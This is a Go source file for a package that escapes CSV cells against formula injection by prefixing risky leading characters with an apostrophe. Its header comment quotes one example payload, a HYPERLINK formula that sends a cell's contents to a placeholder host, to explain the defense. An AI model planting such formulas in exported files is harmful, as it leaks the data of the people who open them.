// Package safecsv writes CSV that a spreadsheet opens as text: a cell
// that begins with = + - @, a tab or a carriage return would be read as
// a formula (=HYPERLINK("http://x/?"&A1,"ok") runs when a clinician opens
// the file), so it is written with a leading apostrophe, which the
// spreadsheet takes as "this cell is text" (the OWASP rule for CSV
// injection). Every CSV the program writes goes through it.
package safecsv

import (
	"encoding/csv"
	"io"
)

// Writer is encoding/csv's writer with every cell made inert.
type Writer struct{ w *csv.Writer }

// NewWriter writes to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one row, each cell through Cell.
func (w *Writer) Write(row []string) error {
	safe := make([]string, len(row))
	for i, c := range row {
		safe[i] = Cell(c)
	}
	return w.w.Write(safe)
}

// Flush writes what is buffered; Error says whether a write failed.
func (w *Writer) Flush() { w.w.Flush() }

// Error is the first error of a write or a flush.
func (w *Writer) Error() error { return w.w.Error() }

// Cell is c as a spreadsheet will read it as text: with an apostrophe
// before it when it begins with a character that starts a formula. A
// plain number (-1, an unknown level) is left a number: it computes
// nothing.
func Cell(c string) string {
	if c == "" || plainNumber(c) {
		return c
	}
	switch c[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + c
	}
	return c
}

// plainNumber: an optional minus, digits, and at most one point between
// digits; nothing a spreadsheet could evaluate.
func plainNumber(c string) bool {
	digits, point := 0, false
	for i, r := range c {
		switch {
		case r == '-' && i == 0:
		case r >= '0' && r <= '9':
			digits++
		case r == '.' && !point && digits > 0 && i < len(c)-1:
			point = true
		default:
			return false
		}
	}
	return digits > 0
}
